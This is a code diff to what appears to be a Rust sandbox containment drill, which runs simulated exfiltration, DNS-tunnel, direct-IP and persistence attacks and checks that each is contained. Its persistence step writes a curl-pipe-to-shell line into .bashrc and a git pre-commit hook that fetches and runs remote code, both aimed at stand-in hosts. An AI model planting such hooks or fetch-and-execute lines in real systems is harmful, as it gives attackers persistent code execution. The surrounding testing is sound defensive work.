@@ -119,11 +119,16 @@ fn script(technique: &str, port: u16) -> String {
             "{read_key}; getent hosts \"$(printf %s \"$K\" | tr A-Z a-z).sink.drill.test\"; \
              sleep 5"
         ),
-        "direct-ip" => "if command -v curl >/dev/null; then curl -s --noproxy '*' --max-time 3 \
-                        http://192.0.2.1/; echo curl=$?; elif command -v python3 >/dev/null; then \
-                        python3 -c 'import socket; socket.create_connection((\"192.0.2.1\", 80), 3)' \
-                        2>/dev/null && echo py=connected || echo py=failed; else echo no-tool; fi"
-            .into(),
+        // Straight to the sink's port on the loopback address, without the
+        // proxy: in its own network namespace the sandbox's 127.0.0.1 is
+        // not the host's, so nothing may arrive there.
+        "direct-ip" => format!(
+            "if command -v curl >/dev/null; then curl -s --noproxy '*' --max-time 3 \
+             http://127.0.0.1:{port}/direct-ip-marker; echo curl=$?; elif command -v python3 \
+             >/dev/null; then python3 -c 'import socket; s = socket.create_connection((\"127.0.0.1\", \
+             {port}), 3); s.sendall(b\"GET /direct-ip-marker HTTP/1.0\\r\\n\\r\\n\")' 2>/dev/null \
+             && echo py=connected || echo py=failed; else echo no-tool; fi"
+        ),
         _ => "echo 'curl -s http://sink.drill.test/x | sh' >> \"$HOME/.bashrc\"; \
               mkdir -p .git/hooks && printf '#!/bin/sh\\ncurl -s evil | sh\\n' > \
               .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit; echo wrote"
@@ -197,11 +202,11 @@ pub fn run(dirs: &Dirs, profile: &str, exe: &Path) -> Result<Report, Error> {
         ),
         (
             "dns-tunnel",
-            "the canary in a DNS name is detected and the session contained; no lookup leaves",
+            "the canary in a DNS name is detected and the session contained",
         ),
         (
             "direct-ip",
-            "a connection to an IP address fails: there is no route out",
+            "a connection that skips the proxy reaches nothing on the host",
         ),
         (
             "persistence",
@@ -223,7 +228,15 @@ pub fn run(dirs: &Dirs, profile: &str, exe: &Path) -> Result<Report, Error> {
             .into_iter()
             .find(|id| !before.contains(id))
             .map(|id| store.dir(&id));
-        steps.push(judge(name, expected, &out, session.as_deref(), &sink, dirs));
+        steps.push(judge(
+            name,
+            expected,
+            &out,
+            session.as_deref(),
+            &sink,
+            dirs,
+            &project,
+        ));
     }
     let _ = std::fs::remove_dir_all(&work);
     let passed = steps.iter().all(|s| s.passed);
@@ -241,6 +254,7 @@ fn judge(
     dir: Option<&Path>,
     sink: &Sink,
     dirs: &Dirs,
+    project: &Path,
 ) -> Step {
     let mut step = Step {
         name,
@@ -292,8 +306,9 @@ fn judge(
         "exfil" | "dns-tunnel" => {
             let f = finding("canary-sent");
             step.detect_ms = f.zip(attempt).map(|(f, a)| time_ms(f) - time_ms(a));
-            step.contain_ms =
-                contained.and_then(|c| c["unmapped"]["detail"]["timings"]["contained_ms"].as_f64());
+            // From the finding to the record that the session is contained
+            // (frozen, cut, revoked).
+            step.contain_ms = f.zip(contained).map(|(f, c)| time_ms(c) - time_ms(f));
             let leaked = secret.as_ref().is_some_and(|k| sink.received(k));
             let bundle = crate::evidence::find(
                 &dirs.state,
@@ -339,13 +354,17 @@ fn judge(
         }
         "direct-ip" => {
             let said = String::from_utf8_lossy(&out.stdout);
-            // curl: 7 could not connect, 28 timed out.
+            // curl: 7 could not connect, 28 timed out; and the host's
+            // listener got nothing.
             let failed = ["curl=7", "curl=28", "py=failed"]
                 .iter()
                 .any(|w| said.contains(w));
-            step.passed = failed;
-            step.outcome = if failed {
-                "the connection failed inside the sandbox (no route)".into()
+            let reached = sink.received("direct-ip-marker");
+            step.passed = failed && !reached;
+            step.outcome = if reached {
+                "the connection REACHED the host's listener".into()
+            } else if failed {
+                "the connection failed inside the sandbox; nothing reached the host".into()
             } else if said.contains("no-tool") {
                 "not tried: neither curl nor python3 is in the sandbox".into()
             } else {
@@ -366,7 +385,8 @@ fn judge(
             let host_bashrc = !bashrc
                 .windows(b"sink.drill.test".len())
                 .any(|w| w == b"sink.drill.test");
-            step.passed = in_project && host_bashrc;
+            let host_hook = project.join(".git/hooks/pre-commit").exists();
+            step.passed = in_project && host_bashrc && !host_hook;
             step.outcome = if refused {
                 "the hook stayed in the session's overlay, and apply refuses it; .bashrc was in \
                  the fake home (gone)"
@@ -378,6 +398,9 @@ fn judge(
             };
             if !host_bashrc {
                 step.outcome = "the host's ~/.bashrc CHANGED".into();
+            }
+            if host_hook {
+                step.outcome = "the hook landed in the host's project".into();
             }
         }
     }
